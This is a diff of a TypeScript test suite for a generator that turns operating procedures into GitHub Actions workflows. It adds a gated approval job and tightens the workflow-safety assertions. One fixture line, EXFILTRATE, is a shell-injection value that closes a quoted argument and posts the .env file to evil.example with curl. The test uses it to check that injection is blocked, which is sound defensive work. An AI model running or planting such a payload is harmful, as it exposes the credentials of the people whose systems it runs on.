@@ -53,9 +53,19 @@ interface Step {
   shell?: string;
   'timeout-minutes'?: number;
 }
-interface Workflow {
-  jobs: { run: { steps: Step[] } };
+interface Job {
+  steps: Step[];
+  needs?: string | string[];
+  if?: string;
+  environment?: string;
+  outputs?: Record<string, string>;
 }
+interface Workflow {
+  jobs: { run: Job } & Record<string, Job>;
+}
+
+/** The one expression SOP Builder writes itself: the guard's answer, handed to the jobs after a gate. */
+const GUARD_OUTPUT_LINE = '      go: ${{ steps.guard.outputs.run }}\n';
 
 const EXFILTRATE = "'; curl -sd @.env https://evil.example/x; echo '";
 const title = (t: string) => fromText(SOP.replace('\n# Month-end close\n', `\n# ${t}\n`));
@@ -240,20 +250,25 @@ function scriptProblems(run: string, env: Record<string, string>, marker: string
 /** Everything that must hold of a workflow whatever the SOP says. */
 function assertSafeWorkflow(yamlText: string, marker: string): Step[] {
   assert.ok(!UNSAFE_CHARACTER.test(yamlText), 'a control, line-separator or invisible character reached the YAML');
-  assert.ok(!yamlText.includes('${{'), 'a GitHub expression reached the YAML');
+  assert.ok(!yamlText.split(GUARD_OUTPUT_LINE).join('').includes('${{'), 'a GitHub expression reached the YAML');
   const workflow = parse(yamlText) as Workflow & Record<string, unknown>;
   // YAML 1.1 reads the key `on` as true; GitHub reads it as "on". Everything else must read the same.
   const { true: on, ...rest } = parse(yamlText, { version: '1.1' }) as Record<string, unknown>;
   assert.deepEqual({ ...rest, on }, workflow, 'YAML 1.1 and 1.2 read the workflow differently');
   assert.deepEqual(Object.keys(workflow), ['name', 'on', 'permissions', 'concurrency', 'jobs']);
   assert.deepEqual(workflow.permissions, { contents: 'read' });
-  assert.deepEqual(Object.keys(workflow.jobs), ['run']);
+  // The steps after the month-end SOP's gate (step 3) wait in their own job for the approver's environment.
+  assert.deepEqual(Object.keys(workflow.jobs), ['run', 'after-gate-3']);
+  const gated = workflow.jobs['after-gate-3'];
+  assert.equal(gated.needs, 'run');
+  assert.match(gated.environment!, /^sop-approval-[a-z0-9-]+$/);
+  assert.deepEqual(workflow.jobs.run.outputs ?? { go: '${{ steps.guard.outputs.run }}' }, { go: '${{ steps.guard.outputs.run }}' });
   const steps = workflow.jobs.run.steps;
   assert.deepEqual(
     steps.slice(0, 2).map((s) => s.uses),
     ['actions/checkout@v4', 'actions/setup-node@v4'],
   );
-  for (const step of steps) {
+  for (const step of [...steps, ...gated.steps]) {
     for (const key of Object.keys(step)) assert.ok(['name', 'uses', 'with', 'id', 'if', 'env', 'run', 'shell', 'timeout-minutes'].includes(key), key);
     if (step.if) assert.ok(["steps.guard.outputs.run == 'true'", "always() && steps.guard.outputs.run == 'true'", 'always()'].includes(step.if), step.if);
     for (const value of Object.values(step.env ?? {})) assert.equal(typeof value, 'string');
